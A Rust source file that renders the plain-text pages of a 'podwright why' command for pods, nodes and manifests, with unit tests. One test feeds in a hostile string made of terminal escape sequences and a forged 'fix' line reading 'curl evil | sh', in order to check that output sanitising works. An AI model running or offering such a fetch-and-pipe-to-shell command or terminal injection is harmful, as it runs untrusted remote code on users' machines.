//! Text output of `podwright why`.

use std::fmt::Write;

use jiff::Timestamp;
use podwright_core::eviction::Distance;
use podwright_core::explain::exit;
use podwright_core::lifecycle::Stage;
use podwright_core::observed::Exit;
use podwright_node::server::debug_socket::{
    ConditionLine, ContainerLine, ExitLine, Explanation, FailedOperation, NodeExplanation,
    PodReason, ProbeLine,
};
use podwright_node::sources::problems::ManifestProblem;

use crate::printable::printable;

/// How many recent journal entries are shown.
const RECENT: usize = 8;

pub(in crate::commands) fn text(explanation: &Explanation) -> String {
    let mut page = String::new();
    let Explanation { namespace, name, uid, source, .. } = explanation;
    // Writing to a String cannot fail.
    let pod = format!("{namespace}/{name} ({uid}, source: {source})");
    let _ = writeln!(page, "{}: {}", printable(&pod), state(explanation.stage));
    let now = explanation.as_of;
    let since =
        explanation.since.map(|since| format!(", for {}", age(since, now))).unwrap_or_default();
    line(&mut page, "why", &format!("{}{since}", explanation.why));
    for reason in &explanation.pending {
        line(&mut page, "pending", &reason.text);
    }
    if let Some(ended) = &explanation.ended {
        line(&mut page, "ended", &format!("{} ({})", ended.message, ended.reason));
    }
    if let Some(call) = &explanation.underway {
        let text = format!("{}, for {}", call.what, age(call.since, now));
        line(&mut page, "running", &text);
    }
    for failed in &explanation.failed {
        line(&mut page, "failed", &failure(failed, now));
    }
    for volume in &explanation.volumes {
        line(&mut page, "volume", &format!("{} ({}) is not ready", volume.name, volume.source));
    }
    if let Some(next) = explanation.next {
        line(&mut page, "next", &format!("in {}", age(now, next)));
    }
    if let Some(fix) = &explanation.fix {
        line(&mut page, "fix", fix);
    }
    for container in &explanation.containers {
        self::container(&mut page, container, now);
    }
    let older = explanation.recent.len().saturating_sub(RECENT);
    for entry in explanation.recent.iter().skip(older) {
        let times =
            if entry.times > 1 { format!(" ({} times)", entry.times) } else { String::new() };
        let text = format!("{} ago: {}{times}", age(entry.at, now), entry.text);
        line(&mut page, "recent", &text);
    }
    page
}

fn container(page: &mut String, container: &ContainerLine, now: Timestamp) {
    let ContainerLine { name, state, restarts, last_exit, next_start, probes } = container;
    let restarts = match restarts {
        0 => String::new(),
        1 => ", restarted once".into(),
        times => format!(", restarted {times} times"),
    };
    let next = next_start.map(|at| format!(", next start in {}", age(now, at)));
    line(page, "container", &format!("{name}: {state}{restarts}{}", next.unwrap_or_default()));
    if let Some(exit) = last_exit {
        line(page, "exit", &format!("{name}: {}", exit_text(exit, now)));
        for text in &exit.log {
            line(page, "log", &format!("{name}: {text}"));
        }
    }
    for probe in probes {
        line(page, "probe", &format!("{name} {}", probe_text(probe, now)));
    }
}

fn exit_text(line: &ExitLine, now: Timestamp) -> String {
    let ExitLine { code, reason, message, started, finished, .. } = line.clone();
    let exit = Exit { code, reason, message, started, finished };
    let ran = age(exit.started, exit.finished);
    let message = match exit.message.as_str() {
        "" => String::new(),
        message => format!(": {message}"),
    };
    format!("{}, ran {ran}, {} ago{message}", exit::text(&exit), age(exit.finished, now))
}

fn probe_text(probe: &ProbeLine, now: Timestamp) -> String {
    let kind = probe.kind.as_str().to_lowercase();
    let check = &probe.check;
    let Some(last) = &probe.last else { return format!("{kind} ({check}): has not run yet") };
    let verb = if last.passed { "passed" } else { "failed" };
    let row = match probe.in_a_row {
        1 => "once".to_owned(),
        times => format!("{times} times in a row"),
    };
    let (passed, failed) = (probe.passed, probe.failed);
    let mut text = format!(
        "{kind} ({check}): {verb} {row}, {} ago: {}; {passed} passed, {failed} failed",
        age(last.at, now),
        last.text
    );
    if let Some(failure) = probe.last_failure.as_ref().filter(|_| last.passed) {
        let ago = age(failure.at, now);
        text.push_str(&format!("; last failure {ago} ago: {}", failure.text));
    }
    text
}

/// The page of a node.
pub(in crate::commands) fn node_text(node: &NodeExplanation) -> String {
    let mut page = String::new();
    let ready = if node.ready { "Ready" } else { "not Ready" };
    let pods = node.pods;
    let _ = writeln!(page, "node {}: {ready}, pods: {pods}", printable(&node.name));
    line(&mut page, "why", &node.why);
    if let Some(fix) = &node.fix {
        line(&mut page, "fix", fix);
    }
    for condition in &node.conditions {
        line(&mut page, "condition", &condition_text(condition, node.as_of));
    }
    let forecast = node.evictions.as_ref();
    for distance in forecast.iter().flat_map(|forecast| &forecast.thresholds) {
        line(&mut page, "eviction", &distance_text(distance));
    }
    for (resource, pods) in forecast.iter().flat_map(|forecast| &forecast.next) {
        if !pods.is_empty() {
            line(&mut page, "next", &format!("for {resource}: {}", pods.join(", ")));
        }
    }
    for pod in &node.stuck {
        line(&mut page, "stuck", &reason_text(pod, node.as_of));
    }
    for manifest in &node.manifests {
        line(&mut page, "manifest", &manifest_text(manifest));
    }
    page
}

/// How far away a threshold is.
fn distance_text(distance: &Distance) -> String {
    let Distance { signal, soft, problem, .. } = distance;
    let kind = if *soft { " (soft)" } else { "" };
    let problem = problem.as_ref().map(|problem| format!("; {problem}")).unwrap_or_default();
    let (Some(threshold), Some(available), Some(capacity), Some(left)) =
        (&distance.threshold, &distance.available, &distance.capacity, &distance.left)
    else {
        return format!("{signal}{kind}: not measured yet{problem}");
    };
    let state = match distance.met_seconds {
        Some(seconds) => format!("below {threshold} for {seconds}s"),
        None => format!("{left} left until {threshold}"),
    };
    format!("{signal}{kind}: {state}, {available} of {capacity} available{problem}")
}

fn condition_text(condition: &ConditionLine, now: Timestamp) -> String {
    let ConditionLine { kind, status, reason, message, since } = condition;
    let since = since.map(|since| format!(", for {}", age(since, now))).unwrap_or_default();
    format!("{kind}={status}{since}: {message} ({reason})")
}

fn reason_text(reason: &PodReason, now: Timestamp) -> String {
    let PodReason { namespace, name, why, since, .. } = reason;
    let since = since.map(|since| format!(", for {}", age(since, now))).unwrap_or_default();
    format!("{namespace}/{name}: {why}{since}")
}

/// The page of a manifest that is not used as it is written.
pub(in crate::commands) fn manifest_page(problem: &ManifestProblem, now: Timestamp) -> String {
    let mut page = String::new();
    let _ = writeln!(page, "{}: {}", printable(&problem.file), problem.effect.text());
    line(&mut page, "why", &format!("{}, for {}", problem.error, age(problem.since, now)));
    line(&mut page, "fix", &format!("edit {}", problem.location()));
    page
}

pub(in crate::commands) fn manifest_text(problem: &ManifestProblem) -> String {
    let ManifestProblem { error, effect, .. } = problem;
    format!("{}: {error}; {}", problem.location(), effect.text())
}

fn line(page: &mut String, name: &str, text: &str) {
    let _ = writeln!(page, "  {name:10} {}", printable(text));
}

fn state(stage: Stage) -> &'static str {
    match stage {
        Stage::Syncing => "should be running",
        Stage::Terminating => "stopping",
        Stage::Terminated => "stopped, releasing resources",
        Stage::Finished => "finished",
    }
}

fn failure(failed: &FailedOperation, now: Timestamp) -> String {
    let FailedOperation { what, error, times, since, retry } = failed;
    let times = match times {
        1 => format!("once, {} ago", age(*since, now)),
        times => format!("{times} times in {}", age(*since, now)),
    };
    let next = match *retry > now {
        true => format!("in {}", age(now, *retry)),
        false => "now".to_owned(),
    };
    format!("{what}: {times}, next attempt {next}; last error: {error}")
}

/// `12s`, `3m5s`, `2h40m`.
fn age(from: Timestamp, to: Timestamp) -> String {
    let seconds = to.duration_since(from).as_secs().max(0);
    match seconds {
        s if s < 60 => format!("{s}s"),
        s if s < 3600 => format!("{}m{}s", s / 60, s % 60),
        s => format!("{}h{}m", s / 3600, s % 3600 / 60),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use std::collections::BTreeMap;

    use podwright_core::eviction::Forecast;
    use podwright_core::explain::pending::PendingReason;
    use podwright_core::pod::ProbeKind;
    use podwright_core::probe::answers::ProbeAnswer;
    use podwright_node::pods::journal::{JournalEntry, Underway};
    use podwright_node::server::debug_socket::VolumeLine;
    use podwright_node::sources::problems::ManifestEffect;

    use super::*;

    fn exit(log: &str) -> ExitLine {
        ExitLine {
            code: 137,
            signal: Some("SIGKILL".into()),
            reason: "OOMKilled".into(),
            message: String::new(),
            started: at(920),
            finished: at(980),
            log: vec![log.into()],
        }
    }

    fn probe(answer: &str) -> ProbeLine {
        ProbeLine {
            kind: ProbeKind::Readiness,
            check: "GET / on port 80".into(),
            last: Some(ProbeAnswer { at: at(998), passed: false, text: answer.into() }),
            in_a_row: 3,
            passed: 1,
            failed: 4,
            failure_threshold: 3,
            last_failure: None,
        }
    }

    #[test]
    fn page_of_a_node_lists_conditions_stuck_pods_and_broken_manifests() {
        let node = NodeExplanation {
            name: "node-1".into(),
            ready: false,
            why: "cni config uninitialized".into(),
            fix: Some("install a CNI configuration".into()),
            conditions: vec![ConditionLine {
                kind: "Ready".into(),
                status: "False".into(),
                reason: "KubeletNotReady".into(),
                message: "network".into(),
                since: Some(at(940)),
            }],
            pods: 3,
            stuck: vec![PodReason {
                namespace: "default".into(),
                name: "web".into(),
                uid: "u".into(),
                well: false,
                stuck: true,
                why: "held: \u{1b}[2J".into(),
                since: Some(at(995)),
            }],
            manifests: vec![ManifestProblem {
                file: "/m/web.yaml".into(),
                line: Some(7),
                error: "no image".into(),
                effect: ManifestEffect::Ignored,
                since: at(1),
            }],
            evictions: Some(Forecast {
                thresholds: vec![
                    distance("memory.available", ["100Mi", "1Gi", "2Gi", "924Mi"], None),
                    Distance {
                        soft: true,
                        ..distance("nodefs.available", ["10Gi", "9Gi", "99Gi", "0"], Some(12))
                    },
                    Distance {
                        signal: "pid.available".into(),
                        problem: Some("read /proc/loadavg: denied".into()),
                        ..Distance::default()
                    },
                ],
                next: BTreeMap::from([
                    ("memory".to_owned(), vec!["default/big".to_owned(), "default/web".to_owned()]),
                    ("pids".to_owned(), Vec::new()),
                ]),
            }),
            as_of: at(1000),
        };
        assert_eq!(
            node_text(&node),
            "node node-1: not Ready, pods: 3\n  \
             why        cni config uninitialized\n  \
             fix        install a CNI configuration\n  \
             condition  Ready=False, for 1m0s: network (KubeletNotReady)\n  \
             eviction   memory.available: 924Mi left until 100Mi, 1Gi of 2Gi available\n  \
             eviction   nodefs.available (soft): below 10Gi for 12s, 9Gi of 99Gi available\n  \
             eviction   pid.available: not measured yet; read /proc/loadavg: denied\n  \
             next       for memory: default/big, default/web\n  \
             stuck      default/web: held: \\u{1b}[2J, for 5s\n  \
             manifest   /m/web.yaml:7: no image; the manifest is ignored until it is fixed\n"
        );
        let page = manifest_page(&node.manifests[0], at(61));
        assert_eq!(
            page,
            "/m/web.yaml: the manifest is ignored until it is fixed\n  \
             why        no image, for 1m0s\n  \
             fix        edit /m/web.yaml:7\n"
        );
    }

    fn distance(signal: &str, amounts: [&str; 4], met_seconds: Option<u64>) -> Distance {
        let [threshold, available, capacity, left] = amounts.map(|it| Some(it.to_owned()));
        let signal = signal.to_owned();
        Distance {
            signal,
            threshold,
            available,
            capacity,
            left,
            met_seconds,
            ..Distance::default()
        }
    }

    fn at(second: i64) -> Timestamp {
        Timestamp::from_second(second).unwrap()
    }

    #[test]
    fn text_of_others_cannot_control_the_terminal_or_add_a_line() {
        let hostile = "\u{1b}[2J\u{1b}]0;owned\u{7}\n  fix        curl evil | sh";
        let failed = |what: &str, error: &str| FailedOperation {
            what: what.into(),
            error: error.into(),
            times: 1,
            since: at(900),
            retry: at(1010),
        };
        let explanation = Explanation {
            namespace: "default".into(),
            name: "web".into(),
            uid: hostile.into(),
            source: "file".into(),
            stage: Stage::Syncing,
            why: hostile.into(),
            since: None,
            fix: Some(hostile.into()),
            underway: Some(Underway { since: at(998), what: hostile.into() }),
            failed: vec![failed("the postStart hook", hostile)],
            next: None,
            containers: vec![ContainerLine {
                name: "c".into(),
                state: hostile.into(),
                restarts: 0,
                last_exit: Some(exit(hostile)),
                next_start: None,
                probes: vec![probe(hostile)],
            }],
            pending: vec![PendingReason { text: hostile.into(), fix: None, shortage: None }],
            volumes: vec![VolumeLine { name: "v".into(), source: hostile.into() }],
            ended: None,
            recent: vec![JournalEntry { at: at(990), text: hostile.into(), times: 1 }],
            as_of: at(1000),
        };
        let page = text(&explanation);
        let acts = |c: char| c.is_control() && c != '\n';
        assert!(!page.chars().any(acts), "{page:?}");
        // the header, and why, pending, running, failed, volume, fix, container, exit, log, probe,
        // recent
        assert_eq!(page.lines().count(), 12, "{page}");
        assert_eq!(page.lines().filter(|line| line.starts_with("  fix ")).count(), 1, "{page}");
    }

    #[test]
    fn page_shows_every_part_of_the_explanation() {
        let explanation = Explanation {
            namespace: "default".into(),
            name: "web".into(),
            uid: "u1".into(),
            source: "api".into(),
            stage: Stage::Syncing,
            why: "c waits: no such image (ErrImagePull)".into(),
            since: Some(at(900)),
            fix: Some("check the image name and the registry".into()),
            underway: Some(Underway { since: at(998), what: "getting the image of c".into() }),
            failed: vec![FailedOperation {
                what: "starting c (ErrImagePull)".into(),
                error: "no such image".into(),
                times: 3,
                since: at(900),
                retry: at(1010),
            }],
            next: Some(at(1010)),
            containers: vec![ContainerLine {
                name: "c".into(),
                state: "waits: ErrImagePull".into(),
                restarts: 2,
                last_exit: Some(exit("no config")),
                next_start: Some(at(1010)),
                probes: vec![probe("status 503: warming up")],
            }],
            pending: Vec::new(),
            volumes: vec![VolumeLine { name: "v".into(), source: "configMap v".into() }],
            ended: None,
            recent: vec![JournalEntry { at: at(940), text: "sandbox created".into(), times: 2 }],
            as_of: at(1000),
        };
        assert_eq!(
            text(&explanation),
            "default/web (u1, source: api): should be running\n  \
             why        c waits: no such image (ErrImagePull), for 1m40s\n  \
             running    getting the image of c, for 2s\n  \
             failed     starting c (ErrImagePull): 3 times in 1m40s, next attempt in 10s; \
             last error: no such image\n  \
             volume     v (configMap v) is not ready\n  \
             next       in 10s\n  \
             fix        check the image name and the registry\n  \
             container  c: waits: ErrImagePull, restarted 2 times, next start in 10s\n  \
             exit       c: exit code 137 (SIGKILL, OOMKilled), ran 1m0s, 20s ago\n  \
             log        c: no config\n  \
             probe      c readiness (GET / on port 80): failed 3 times in a row, 2s ago: \
             status 503: warming up; 1 passed, 4 failed\n  \
             recent     1m0s ago: sandbox created (2 times)\n"
        );
    }
}
